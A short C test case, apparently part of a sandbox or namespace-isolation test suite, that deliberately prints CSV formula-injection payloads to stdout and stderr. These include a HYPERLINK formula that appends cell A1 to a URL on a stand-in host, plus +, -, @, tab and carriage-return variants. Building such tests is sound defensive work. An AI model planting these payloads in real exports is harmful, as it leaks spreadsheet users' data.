/*
 * csv_formula_output - what a spreadsheet would run
 *
 * Attack: [71] prints cells that a spreadsheet would compute
 * Exercise: 05_uts
 * Expect: zero; still in the host
 * Seconds: 20
 */
#include <stdio.h>

#include "join.h"

int
uts_join(pid_t pid)
{
	(void)pid;
	fputs("=HYPERLINK(\"http://192.0.2.1/"
	      "?\"&A1,\"ok\")\n+1+1\n-1-1\n@SUM(1)\n"
	      "\t=1+1\n\r=1+1\n\",8,8,8\n",
	      stdout);
	fputs("=HYPERLINK(\"http://192.0.2.1/"
	      "?\"&A1,\"ok\")\n+1+1\n-1-1\n@SUM(1)\n"
	      "\t=1+1\n\r=1+1\n\",8,8,8\n",
	      stderr);
	fflush(NULL);
	return 0;
}
